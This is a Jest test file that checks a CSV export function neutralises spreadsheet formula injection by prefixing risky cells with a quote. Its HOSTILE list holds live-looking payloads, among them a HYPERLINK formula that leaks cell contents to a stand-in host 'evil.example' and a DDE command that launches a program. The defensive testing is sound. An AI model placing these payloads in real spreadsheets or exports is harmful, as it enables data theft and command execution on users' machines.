import { csvCell, neutraliseCell, toCsv } from "@/lib/runs/csv";

// OWASP "CSV injection": a cell a spreadsheet would evaluate must reach it as
// text. Parsing the output back as a spreadsheet would (first character
// decides) is what these tests check, not the exact escaping.

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "=1+1",
  "+SUM(A1:A9)",
  "-2+3",
  "@SUM(A1)",
  "\t=cmd|' /C calc'!A0",
  "\r=1",
  "\n=1",
  "  =1+1",
  " @x",
];

describe("CSV export: spreadsheet formulas are neutralised", () => {
  it.each(HOSTILE)("prefixes %j with a single quote, keeping the rest of the text unchanged", (text) => {
    const safe = neutraliseCell(text);
    expect(safe).toBe(`'${text}`);
  });

  it.each(["-0.123", "+1e-5", "-42", " -3.5 ", "-.5", "1e3"])("leaves the numeric text %j as a number", (text) => {
    expect(neutraliseCell(text)).toBe(text);
  });

  it.each([-0.123, -1e-9, 0, 3.25])("writes the number %d as a plain number, never quoted or prefixed", (n) => {
    expect(csvCell(n)).toBe(String(n));
  });

  it.each(["Unemployment rate", "G1", "jobless_rate", "O'Brien", "a-b", "x=1", "", "<script>window.__xss=1</script>"])(
    "leaves harmless text %j as it is",
    (text) => {
      expect(neutraliseCell(text)).toBe(text);
    },
  );

  it("quotes a neutralised cell that holds a comma, a quote or a line break, so the prefix stays in the same cell", () => {
    expect(csvCell('=HYPERLINK("x","y")')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
    expect(csvCell("=1,2")).toBe(`"'=1,2"`);
    expect(csvCell("\n=1")).toBe(`"'\n=1"`);
  });

  it("neutralises hostile header cells too, and writes a document whose every text cell starts harmlessly", () => {
    const doc = toCsv(["indicator", "=evil()"], [["@SUM(A1)", -0.5], ["-1+1", 2], ["ok", -0.125]]);
    expect(doc).toBe("indicator,'=evil()\r\n'@SUM(A1),-0.5\r\n'-1+1,2\r\nok,-0.125\r\n");
    const cells = doc.trim().split("\r\n").flatMap((line) => line.split(","));
    for (const cell of cells) {
      const numeric = !Number.isNaN(Number(cell));
      if (!numeric) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
    }
  });
});
